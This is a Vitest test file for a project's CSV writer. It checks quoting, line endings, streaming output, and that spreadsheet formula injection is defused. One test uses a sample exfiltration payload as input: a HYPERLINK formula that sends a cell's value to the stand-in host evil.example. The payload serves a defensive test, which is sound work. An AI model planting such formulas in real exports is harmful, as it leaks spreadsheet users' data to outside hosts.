import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { csvChunks, csvLine, csvLines } from '@/lib/server/infra/csv';

describe('the one CSV writer', () => {
  it('quotes a cell with a comma, a quote or a line break, doubling its quotes, and leaves the rest as it is', () => {
    expect(csvLine(['plain', 'a, b', 'say "hi"', 'two\nlines', 'cr\r', '', null, undefined, 12, 1.5, -3])).toBe('plain,"a, b","say ""hi""","two\nlines","cr\r",,,,12,1.5,-3\r\n');
  });

  it('defuses a text that a spreadsheet would run as a formula, and leaves numbers alone', () => {
    expect(csvLine(['=1+1', '+27 82', '-2+3', '@SUM(A1)', '\tx', '\rx', '＝1'])).toBe(`'=1+1,'+27 82,'-2+3,'@SUM(A1),'\tx,"'\rx",'＝1\r\n`);
    expect(csvLine(['=HYPERLINK("http://evil.example/?x="&A1,"Click")'])).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"\r\n`);
    expect(csvLine([-12.5, 'a=b', 'x-y'])).toBe('-12.5,a=b,x-y\r\n');
  });

  it('ends lines as asked: \\r\\n by default, \\n for Meta', () => {
    expect(csvLines([['a', 'b'], ['c', 'd']])).toBe('a,b\r\nc,d\r\n');
    expect(csvLines([['a', 'b'], ['c', 'd']], '\n')).toBe('a,b\nc,d\n');
    expect(csvLines([])).toBe('');
  });

  it('streams: the header, then a chunk per batch as the batches come', async () => {
    async function* batches() {
      yield [['1', '=bad']];
      yield [];
      yield [['2', 'ok'], ['3', null]];
    }
    expect(await Array.fromAsync(csvChunks(['id', 'note'], batches()))).toEqual(['id,note\r\n', "1,'=bad\r\n", '2,ok\r\n3,\r\n']);
  });

  it('is the only one: no other module imports csv-stringify or doubles quotes for a CSV of its own', () => {
    const sources = (dir: string): string[] =>
      readdirSync(dir).flatMap((name) => {
        const path = join(dir, name);
        return statSync(path).isDirectory() ? sources(path) : /\.(ts|tsx|astro)$/.test(name) ? [path] : [];
      });
    const others = [...sources('src'), ...sources('scripts')]
      .filter((file) => file !== join('src', 'lib', 'server', 'infra', 'csv.ts'))
      .filter((file) => /from 'csv-stringify|replace\(\/"\/g, '""'\)/.test(readFileSync(file, 'utf8')));
    expect(others).toEqual([]);
  });
});
